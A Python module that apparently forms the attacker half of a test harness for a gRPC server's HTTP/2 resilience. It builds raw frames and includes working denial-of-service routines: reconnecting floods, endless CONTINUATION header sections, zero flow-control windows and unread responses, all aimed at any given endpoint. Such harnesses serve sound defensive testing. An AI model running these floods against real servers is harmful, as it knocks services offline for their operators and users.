"""HTTP/2 as an attacker speaks it: frames in bulk, read or not, on many connections at once."""

import contextlib
import random
import select
import socket
import struct
import time

import hpack

from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, RST_STREAM, SERVICE, SETTINGS, WINDOW_UPDATE,
    Closed)

PRIORITY = 2
UNKNOWN = 0xBB
LIFECYCLE = "/flowstate.v1.FlowLifecycleService/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
WATCH = "/grpc.health.v1.Health/Watch"
#: Under this tenant attackers keep what they load.
TENANT = "attacker"
NO_WINDOW = struct.pack(">HI", 4, 0)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(path, *extra, tenant=TENANT):
    """A header section that touches no dynamic table, so that it is right on every connection."""
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test"), ("te", "trailers"),
        ("content-type", "application/grpc"), ("flowstate-tenant", tenant), *extra]
    return hpack.Encoder().encode([(name, value, True) for name, value in fields], huffman=False)


def literal(name, value):
    """A header field that is never indexed, as RFC 7541 §6.2.3 writes it."""
    rest, length = len(value) - 127, bytearray([min(len(value), 127)])
    while rest >= 0:
        length.append(rest & 127 | (128 if rest > 127 else 0))
        rest = (rest >> 7) or -1
    return b"\x10" + bytes([len(name)]) + name + bytes(length) + value


def data(stream, payload, end=True):
    """DATA frames with a whole payload."""
    parts = [payload[offset:offset + 16_384] for offset in range(0, max(len(payload), 1), 16_384)]
    last = len(parts) - 1
    return b"".join(frame(DATA, END_STREAM if end and number == last else 0, stream, part) for number, part in enumerate(parts))


def call(stream, section, payload, end=True):
    return frame(HEADERS, END_HEADERS, stream, section) + data(stream, payload, end)


class Peer:
    """What one attacking process did so far, and how long it goes on: with `patience`, longer until a connection was closed."""

    def __init__(self, endpoint, seconds, share, patience=0):
        host, _, port = endpoint.rpartition(":")
        self.endpoint, self.address = endpoint, (host, int(port))
        self.share = share
        self.random = random.Random(share)
        self.ends = time.monotonic() + seconds
        self.patience = patience
        self.opened = self.closed = self.sent = 0
        self.lifetimes = []
        self.open = set()
        self.answers = {}

    def is_going(self):
        return time.monotonic() < self.ends + (0 if self.closed else self.patience)

    def pause(self, seconds):
        time.sleep(max(0, min(seconds, self.ends - time.monotonic())))

    def connect(self, settings=b"", preface=True, keeps=True):
        """A connection; raises Closed when the server takes none. One that keeps looks at the frames that come."""
        return Connection(self, settings, preface, keeps)

    def count(self, answer):
        self.answers[answer] = self.answers.get(answer, 0) + 1

    def figures(self):
        """Connections opened, those the server closed, how long the first of these lived, and the longest of all."""
        open_for = [time.monotonic() - connection.began for connection in self.open]
        return {
            "opened": self.opened, "closed": self.closed, "sent": self.sent, "answers": self.answers,
            "first_close": round(min(self.lifetimes, default=0), 3), "longest": round(max(self.lifetimes + open_for, default=0), 3)}


class Connection:
    def __init__(self, peer, settings, preface, keeps):
        self.peer, self.keeps = peer, keeps
        self.began = time.monotonic()
        self.next_stream = 1
        self.received = bytearray()
        self.ended, self.streams = set(), set()
        #: What the server lets through of a stream at first; by stream (0: the connection), what more since, less what was sent.
        self.first_window, self.credit = 65_535, {0: 65_535}
        self.is_closed = False
        #: Off where a frame would come amid a header section.
        self.acknowledges = True
        try:
            self.socket = socket.create_connection(peer.address, timeout=5)
        except OSError:
            peer.pause(0.05)
            raise Closed from None
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        peer.opened += 1
        peer.open.add(self)
        if preface:
            self.pump(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self):
        return self

    def __exit__(self, *error):
        if self.peer.is_going():
            self.peer.open.discard(self)
        self.socket.close()

    def take_stream(self):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.streams.add(stream)
        return stream

    def pump(self, data, reads=True):
        """Sends all of it, unless the time is up; throws away what comes meanwhile, or leaves it unread."""
        view = memoryview(data)
        poll = select.poll()
        poll.register(self.socket, select.POLLOUT | (select.POLLIN if reads else 0))
        while view and self.peer.is_going():
            events = poll.poll(100)
            if reads and events and events[0][1] & select.POLLIN:
                self.drain()
            if events and events[0][1] & (select.POLLOUT | select.POLLERR | select.POLLHUP):
                try:
                    count = self.socket.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self._fail()
                view = view[count:]
                self.peer.sent += count

    def send_body(self, stream, payload, end=True):
        """DATA as the server's windows let it through; less of it when the time is up or the stream is ended."""
        offset = 0
        while offset < len(payload) and self.peer.is_going() and stream not in self.ended:
            room = min(16_384, self.credit[0], self.first_window + self.credit.get(stream, 0), len(payload) - offset)
            if room <= 0:
                self.wait_readable()
                self.settle()
                if self.is_closed:
                    raise Closed
                continue
            self.pump(frame(DATA, END_STREAM if end and offset + room == len(payload) else 0, stream, payload[offset:offset + room]))
            for window in (0, stream):
                self.credit[window] = self.credit.get(window, 0) - room
            offset += room

    def wait_readable(self):
        poll = select.poll()
        poll.register(self.socket, select.POLLIN)
        poll.poll(100)

    def drain(self):
        """Reads what is there."""
        with contextlib.suppress(BlockingIOError):
            while True:
                try:
                    part = self.socket.recv(1 << 18)
                except ConnectionError:
                    part = b""
                if not part:
                    self._fail()
                if self.keeps:
                    self.received += part

    def settle(self):
        """Reads frames; remembers which streams the server has ended."""
        with contextlib.suppress(Closed):
            if not self.is_closed:
                self.drain()
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                return
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big") & 0x7FFFFFFF
            payload = self.received[9:9 + length]
            if kind == WINDOW_UPDATE:
                self.credit[stream] = self.credit.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                # Before it is acknowledged, the server holds streams to the window of the protocol.
                if self.acknowledges:
                    with contextlib.suppress(Closed):
                        self.pump(frame(SETTINGS, ACK, 0), reads=False)
                self.first_window = dict(struct.iter_unpack(">HI", payload)).get(INITIAL_WINDOW_SIZE, self.first_window)
            if kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM:
                self.ended.add(stream)
            del self.received[:9 + length]

    def is_released(self):
        """Whether the server keeps nothing for this connection but the connection."""
        self.settle()
        return self.is_closed or bool(self.streams) and self.streams <= self.ended

    def _fail(self):
        if not self.is_closed:
            self.is_closed = True
            self.peer.closed += 1
            self.peer.lifetimes.append(time.monotonic() - self.began)
        raise Closed


def flood(peer, chunk, reads=True, setup=None, settings=b"", pause=0, keeps=False):
    """Sends the same again and again, on a new connection whenever the server has closed the last."""
    while peer.is_going():
        with contextlib.suppress(Closed), peer.connect(settings, keeps=keeps) as connection:
            if setup:
                connection.pump(setup(connection), reads)
            while peer.is_going():
                connection.pump(chunk(connection) if callable(chunk) else chunk, reads)
                peer.pause(pause)


def header_section(kind_of_rest, stream, parts):
    """HEADERS and CONTINUATION frames that never end."""
    return frame(HEADERS, 0, stream, b"\x83\x86") + b"".join(frame(CONTINUATION, 0, stream, kind_of_rest) for _ in range(parts))


__all__ = [
    "LIFECYCLE", "NO_WINDOW", "PRIORITY", "REFLECTION", "SERVICE", "TENANT", "UNKNOWN", "WATCH", "Closed", "Connection", "Peer", "block",
    "call", "data", "flood", "frame", "header_section"]
